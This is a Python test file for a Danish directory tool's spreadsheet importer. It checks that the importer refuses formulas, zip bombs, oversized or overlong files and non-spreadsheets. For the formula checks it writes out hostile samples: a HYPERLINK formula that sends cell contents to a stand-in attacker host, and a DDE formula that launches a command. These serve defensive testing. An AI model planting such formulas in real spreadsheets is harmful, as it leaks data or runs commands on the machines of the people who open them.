"""Hostile spreadsheets are refused with a clear message, never with a traceback, and formulas are
never evaluated: a zip bomb, a file too large or too long, a formula in a cell, a file that is no
spreadsheet at all."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from vejviser.sheets import reader

from .test_sheet_import import rows_of, vejviser


def _workbook(*rows: list) -> openpyxl.Workbook:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Navn", "Kort beskrivelse", "Hjælp til", "Område", "Telefon"])
    for row in rows:
        workbook.active.append(row)
    return workbook


GOOD = ["Gåklubben Skridtet", "Vi går en tur sammen hver mandag.", "Ensomhed og fællesskab", "Ribe", "+45 75 12 34 56"]


def test_a_formula_is_never_evaluated_and_its_row_is_refused(content, run):
    workbook = _workbook(GOOD, ['=HYPERLINK("https://angriber.example/?q="&B3,"Klik")', "Vi hjælper.", "Sorg og tab", "Ribe", "=1+1"])
    workbook.save("liste.xlsx")
    result = run("import", "liste.xlsx", "--write")
    report = rows_of(result.out)
    assert report["liste.xlsx:3:A"] == ['cellen indeholder en formel (=HYPERLINK("https://angriber.example/?q="&B3,"Klik")). Formler læses aldrig; skriv selve værdien i cellen']
    assert report["liste.xlsx:3:E"] == ["cellen indeholder en formel (=1+1). Formler læses aldrig; skriv selve værdien i cellen"]
    assert report["liste.xlsx:2"] == ["ny: Gåklubben Skridtet → content/associations/gaaklubben-skridtet.yaml"]  # "+45 …" is text
    assert result.code == 1
    assert [path.name for path in (content / "associations").iterdir()] == ["gaaklubben-skridtet.yaml"]


def test_text_that_only_starts_like_a_formula_is_read_as_text(content, run):
    workbook = _workbook(["@Ungdomshuset", "- Vi spiller musik.\n- Vi spiser sammen.", "Ensomhed og fællesskab", "Esbjerg", None])
    workbook.save("liste.xlsx")
    result = run("import", "liste.xlsx", "--write")
    assert result.code == 0, result.out
    text = (content / "associations" / "ungdomshuset.yaml").read_text("utf-8")
    assert "name: '@Ungdomshuset'" in text and "- Vi spiller musik.\n    - Vi spiser sammen." in text


def test_a_formula_in_a_csv_file_is_refused_too(content, run):
    Path("liste.csv").write_text("Navn;Kort beskrivelse;Hjælp til;Område\n=cmd|' /C calc'!A0;Tekst;Sorg og tab;Ribe\n", "utf-8")
    result = run("import", "liste.csv", "--lang", "en")
    assert rows_of(result.out)["liste.csv:2:A"] == ["the cell holds a formula (=cmd|' /C calc'!A0). Formulas are never read; type the value itself into the cell"]
    assert result.code == 1


def test_a_zip_bomb_is_refused_before_it_is_unpacked(content):
    buffer = io.BytesIO()
    _workbook(GOOD).save(buffer)
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", bytes(60 * 2**20))  # 60 MiB of zeros, some 60 kB packed
    Path("liste.xlsx").write_bytes(buffer.getvalue())
    assert Path("liste.xlsx").stat().st_size < 200_000
    result = vejviser("import", "liste.xlsx", cwd=content.parent)
    assert (result.returncode, result.stderr) == (1, "")
    assert result.stdout == "liste.xlsx: regnearket ville fylde 60 MiB, når det pakkes ud (højst 40 MiB), så det læses ikke. Et almindeligt regneark fylder langt mindre; gem det igen fra Excel\n"


def test_a_file_too_large_is_refused_without_reading_it(content, run):
    with open("liste.xlsx", "wb") as handle:
        handle.truncate(reader.MAX_FILE_BYTES + 1)
    result = run("import", "liste.xlsx")
    assert result.code == 1 and result.out == "liste.xlsx: filen er for stor (10.0 MiB, højst 10 MiB). Del listen op i flere filer\n"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_too_many_rows_are_refused(content, run, suffix):
    rows = reader.MAX_ROWS + 1
    if suffix == ".csv":
        Path("liste.csv").write_text("Navn;Telefon\n" + "Forening;75123456\n" * rows, "utf-8")
    else:
        workbook = openpyxl.Workbook(write_only=True)
        sheet = workbook.create_sheet()
        for _ in range(rows):
            sheet.append(["Forening", 75123456])
        workbook.save("liste.xlsx")
    result = run("import", f"liste{suffix}")
    assert result.code == 1 and result.out.startswith(f"liste{suffix}: regnearket har for mange rækker (")
    assert result.out.endswith(f"højst {reader.MAX_ROWS}). Del listen op i flere filer\n")


@pytest.mark.parametrize(
    "name, data, message",
    [
        ("liste.xlsx", b"Navn;Telefon\nForening;75123456\n", "filen er ikke et regneark, der kan læses (zip)"),
        ("liste.xlsx", b"PK\x05\x06" + bytes(18), "filen er ikke et regneark, der kan læses (xl/workbook.xml)"),
        ("liste.pdf", b"%PDF-1.7\n", "filen kan ikke læses som liste. Gem den som Excel-regneark eller CSV, eller brug en HSDS-fil i JSON (.xlsx, .xlsm, .csv, .json)"),
        ("liste.csv", b"\x00\x01\x02binary", "filen er ikke et regneark, der kan læses (binary)"),
    ],
)
def test_a_file_that_is_no_spreadsheet_is_refused(content, run, name, data, message):
    Path(name).write_bytes(data)
    result = run("import", name)
    assert result.code == 1 and result.out.startswith(f"{name}: {message}")


def test_a_sheet_without_known_titles_says_what_titles_it_wants(content, run):
    workbook = openpyxl.Workbook()
    workbook.active.append(["Kolonne 1", "Kolonne 2"])
    workbook.active.append(["Forening", "75123456"])
    workbook.save("liste.xlsx")
    result = run("import", "liste.xlsx")
    assert result.code == 1
    assert result.out.startswith("liste.xlsx: der er ingen overskriftsrække med kendte kolonnenavne i de første 20 rækker. Giv kolonnerne navne som Navn, Andre navne,")
